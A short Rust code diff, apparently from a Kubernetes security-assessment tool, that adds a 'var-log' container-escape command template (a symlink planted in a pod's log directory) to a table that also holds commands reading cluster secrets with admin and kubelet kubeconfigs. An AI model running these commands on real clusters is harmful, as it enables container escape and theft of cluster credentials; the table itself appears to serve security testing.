@@ -6,6 +6,7 @@ pub(super) fn command(id: &str) -> Option<&'static str> {
 }
 
 const COMMANDS: &[(&str, &str)] = &[
+    ("escape/var-log", "ln -sf FILE MOUNTPATH/pods/NAMESPACE_POD_UID/CONTAINER/0.log"),
     ("identity/control-plane", "kubectl --kubeconfig=/etc/kubernetes/super-admin.conf get secrets -A"),
     ("identity/kubelet-rights", "kubectl --kubeconfig=/etc/kubernetes/kubelet.conf get secret NAME -n NAMESPACE"),
     ("identity/node-kubelet", "kubectl --kubeconfig=/etc/kubernetes/kubelet.conf auth whoami"),
